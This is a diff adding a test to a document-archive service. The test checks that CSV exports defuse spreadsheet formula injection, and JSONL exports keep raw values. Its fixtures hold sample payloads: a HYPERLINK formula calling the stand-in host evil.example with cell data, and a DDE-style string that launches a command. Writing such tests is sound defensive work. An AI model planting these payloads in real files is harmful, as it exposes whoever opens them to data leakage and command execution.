@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import uuid
 from typing import Any
 
@@ -135,3 +136,34 @@ def test_selected_documents_and_bad_requests(
 def test_empty_archive(client: TestClient, tokens: dict[str, str]) -> None:
     assert _get(client, tokens["researcher"]).text == ""
     assert len(_get(client, tokens["researcher"], format="csv").text.splitlines()) == 1
+
+
+def test_csv_cells_are_never_spreadsheet_formulas(client: TestClient, tokens: dict[str, str]) -> None:
+    """OWASP "CSV injection": a cell a spreadsheet would run (=, +, -, @, tab, CR first) starts with `'`."""
+    name = "=HYPERLINK(CONCAT(http://evil.example/?;A1);открыть).txt"
+    stored = upload(client, tokens["archivist"], (name, SHORT)).json()["data"][0]
+    assert wait_for_job(client, tokens["archivist"], stored["job_id"])["state"] == "done"
+    document_id = stored["document_id"]
+    assert client.get(f"/v1/documents/{document_id}", headers=bearer(tokens["archivist"])).json()["filename"] == name
+    hostile = {"position": "@SUM(1+1)*cmd|' /C calc'!A0", "organization": "+7 (312) 62-00-00", "name": "\t-2+3"}
+    edit = {"op": "edit_person", "person": "p1", "set": hostile}
+    body = {"base_version": 1, "operations": [edit]}
+    patched = client.patch(f"/v1/documents/{document_id}/record", headers=bearer(tokens["archivist"]), json=body)
+    assert patched.status_code == 200, patched.text
+
+    for rows in ("person", "mention"):
+        text = _get(client, tokens["researcher"], format="csv", rows=rows).text
+        table = list(csv.DictReader(io.StringIO(text)))
+        assert table and all(row["filename"] == "'" + name for row in table)
+        edited = [row for row in table if row["person_id"] == "p1"]
+        assert edited
+        for row in edited:
+            for field, value in hostile.items():
+                assert row[field] == "'" + value, (field, row[field])
+        for row in table:  # no other cell starts a formula either; numbers and year-less dates stay as they are
+            formulas = [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+            assert all(re.fullmatch(r"--\d\d-\d\d", cell) for cell in formulas), formulas
+            assert int(row["record_version"]) == 2
+    # JSONL is data for programs, not a spreadsheet: it keeps the values as they are.
+    line = json.loads(_get(client, tokens["researcher"]).text.splitlines()[0])
+    assert line["filename"] == name
